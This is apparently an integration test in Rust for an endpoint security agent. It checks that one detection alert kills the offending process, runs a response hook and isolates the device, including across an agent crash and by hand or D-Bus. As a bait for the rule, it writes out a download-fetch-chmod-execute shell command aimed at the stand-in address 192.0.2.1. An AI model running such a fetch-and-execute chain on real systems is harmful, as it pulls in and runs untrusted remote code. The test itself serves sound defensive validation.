//! What the agent does besides blocking an address: ends a process, starts the product's program, isolates the device.

use std::time::Duration;

use crate::attack::Reached;
use crate::device::class;
use crate::error::Result;
use crate::lab::{Node, GUEST_V4, GUEST_V6};

use super::{configuration, expect, World};

const CONNECT: Duration = Duration::from_secs(3);
const REPORT: Duration = Duration::from_secs(20);
/// "Download fetched, made executable and run in one command".
const RULE: &str = "635cc0a4-83ce-40a5-90e6-cbcb7fb55a5a";
/// Root's alone, where programs may be started.
const HOOK: &str = "/var/lib/validation/hook";
/// Where the agent, and so its hook, may write.
const HOOKED: &str = "/var/lib/defender/validation-hook.json";
/// Long enough for a restart of the agent on an emulated processor.
const ISOLATED_S: u64 = 90;

/// One alert with three responses, and then an isolation by hand.
pub(super) fn kill_hook_and_isolate(world: &mut World<'_>) -> Result<()> {
    let (friend, stranger) = (world.node()?, world.node()?);
    let settings = format!(
        "[response]\nkill_process = true\nhook = \"{HOOK}\"\nisolate = true\nisolate_s = {ISOLATED_S}\n\
         isolate_allow = [\"{}\", \"{}\"]\n[[rule]]\nid = \"{RULE}\"\n\
         response = [\"kill_process\", \"run_hook\", \"isolate\"]\n",
        friend.v4, friend.v6
    );
    let machine = world.machine()?;
    machine
        .ok(&format!("mkdir -p /var/lib/validation && chmod 755 /var/lib/validation && rm -f {HOOKED}"))?;
    // Only what a shell does by itself: Landlock lets the hook start no other program.
    let hook = format!("#!/bin/sh\nread -r finding\necho \"$finding\" >{HOOKED}\n");
    machine.write_file(HOOK, 0o755, hook.as_bytes())?;
    let result = configuration::with(world, "conf.d/99-validation.toml", &settings, |world| {
        let done = respond(world, &friend, &stranger);
        // Nothing that comes after this scenario is to be isolated.
        world.machine()?.run("defender isolate off")?;
        done
    });
    world.machine()?.run(&format!("rm -f {HOOK} {HOOKED}"))?;
    result
}

/// The stranger is kept out and the friend is not, over both protocols; or nobody is.
fn reach(friend: &Node, stranger: &Node, isolated: bool, when: &str) -> Result<()> {
    for target in [GUEST_V4, GUEST_V6] {
        let kept_out = if isolated { Reached::Silence } else { Reached::Open };
        for (node, wanted) in [(friend, Reached::Open), (stranger, kept_out)] {
            let reached = node.connect(target, 22, CONNECT)?;
            expect(reached == wanted, || format!("{when} {target} gives {reached:?} to {}", node.v4))?;
        }
    }
    Ok(())
}

fn respond(world: &mut World<'_>, friend: &Node, stranger: &Node) -> Result<()> {
    reach(friend, stranger, false, "before")?;
    let machine = world.machine()?;
    // Rules see what it is about to do; it never comes to that.
    let deed = "#!/bin/sh\nexec sh -c 'sleep 900; wget http://192.0.2.1/x -O /tmp/kept-out; chmod +x /tmp/kept-out; \
                /tmp/kept-out'\n";
    machine.write_file("/run/validation-deed", 0o755, deed.as_bytes())?;
    // From a file: the command that starts it would fit the rule as well.
    let pid = machine.ok("sh /run/validation-deed >/dev/null 2>&1 & echo $!")?;
    let pid = pid.trim();
    let alert = machine.event("the alert", "kept-out", REPORT, |e| {
        e.class() == class::FINDING && e.at("/finding_info/analytic/uid") == RULE
    })?;
    let about = alert.at("/evidences/0/process/pid").to_string();
    expect(about == pid, || format!("an alert about process {about}, not {pid}: {}", alert.0))?;
    let uid = alert.at("/finding_info/uid").clone();
    let text = uid.as_str().unwrap_or_default().to_owned();
    for (what, remediation) in [
        ("the process was killed", class::PROCESS_REMEDIATION),
        ("the hook was run", class::OTHER_REMEDIATION),
        ("the device was isolated", class::REMEDIATION),
    ] {
        let done = machine
            .event(what, &text, REPORT, |e| e.class() == remediation && *e.at("/command_uid") == uid)?;
        expect(done.at("/status_id") == 1, || format!("not: {what}: {}", done.0))?;
    }
    let alive = machine.run(&format!("test -d /proc/{pid} && ! grep -q '^State:.Z' /proc/{pid}/status"))?;
    expect(alive.status != 0, || format!("process {pid} lives"))?;
    let hooked = machine.ok(&format!("cat {HOOKED}"))?;
    expect(hooked.contains(&text) && hooked.contains("\"class_uid\":2004"), || {
        format!("the hook got {hooked}")
    })?;

    reach(friend, stranger, true, "isolated")?;
    let status = machine.query("status")?;
    expect(status["firewall"]["isolation"]["seconds_left"].is_u64(), || format!("status: {status}"))?;
    // A crash does not end it, and the next agent knows.
    let old = machine.agent_pid()?;
    machine.ok("kill -KILL $(pidof defender)")?;
    reach(friend, stranger, true, "while the agent is dead")?;
    machine.wait("init starts the agent again", Duration::from_secs(60), |machine| {
        Ok(machine.agent_pid()?.filter(|pid| Some(*pid) != old).ok_or_else(|| "no new process".to_owned()))
    })?;
    machine.wait_armed()?;
    machine.wait("the new agent knows", REPORT, |machine| {
        let status = machine.query("status")?;
        let isolated = status["firewall"]["isolation"].is_object();
        Ok(if isolated { Ok(()) } else { Err(status["firewall"].to_string()) })
    })?;
    // It ends by itself, and its end is told.
    machine.event("its end", "isolation", Duration::from_secs(ISOLATED_S + 60), |e| {
        e.is_health("isolation", &["changed"]) && e.at("/message").to_string().contains("over")
    })?;
    reach(friend, stranger, false, "after its time")?;

    // By hand, over both ways in.
    machine.ok("defender isolate --seconds 600 --reason drill")?;
    reach(friend, stranger, true, "isolated by hand")?;
    machine.ok("defender isolate off")?;
    reach(friend, stranger, false, "ended by hand")?;
    machine.dbus("Isolate", "uint32:600 string:drill")?;
    reach(friend, stranger, true, "isolated over D-Bus")?;
    machine.dbus("EndIsolation", "")?;
    reach(friend, stranger, false, "ended over D-Bus")
}
